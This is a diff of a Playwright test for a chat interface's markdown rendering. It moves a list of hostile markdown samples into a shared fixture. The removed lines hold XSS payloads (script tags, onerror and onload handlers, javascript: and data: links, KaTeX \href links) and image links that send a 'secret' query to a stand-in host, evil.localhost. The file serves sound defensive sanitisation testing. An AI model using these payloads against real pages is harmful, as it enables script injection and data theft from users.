@@ -2,24 +2,10 @@ import { createServer } from "node:http";
 import type { Page } from "@playwright/test";
 import { BASE_PORT, EXFIL_PORT } from "../fixtures/env.ts";
 import { fakeMarker, registerFakeReply } from "../fakes/scripted-replies.ts";
+import { HOSTILE } from "../fixtures/hostile-markdown.ts";
 import { pageApi } from "../fixtures/page-api.ts";
 import { openFakeProviderChat } from "../pages/chat-page.ts";
 import { expect, test } from "../fixtures/test.ts";
-
-// Every payload, if it ran, would set window.__pwned or open a dialog; the images would call
-// another origin (evil.localhost resolves to loopback; nothing listens on port 9, the request is
-// what counts).
-const HOSTILE = [
-  "Hostile sample",
-  "<script>window.__pwned = 1</script>",
-  '<img src="x" onerror="window.__pwned = 2; alert(2)">',
-  '<svg onload="window.__pwned = 3"><script>window.__pwned = 31</script></svg>',
-  '<a href="javascript:window.__pwned = 4">raw link</a> <iframe src="javascript:alert(6)"></iframe>',
-  "[js link](javascript:window.__pwned=5) [data link](data:text/html,<script>alert(7)</script>)",
-  "![pixel](http://evil.localhost:9/pixel.png?q=secret) ![relative-less](//evil.localhost:9/p.png)",
-  "Inline $\\href{javascript:window.__pwned=8}{katex link}$ and $\\htmlData{foo=bar}{x}$ and $\\url{javascript:alert(9)}$.",
-  "$$\n\\href{javascript:alert(10)}{display link}\n$$",
-].join("\n\n");
 
 /** Fails the test on any dialog, and records every host the page talks to. */
 function watch(page: Page): { dialogs: string[]; hosts: Set<string> } {
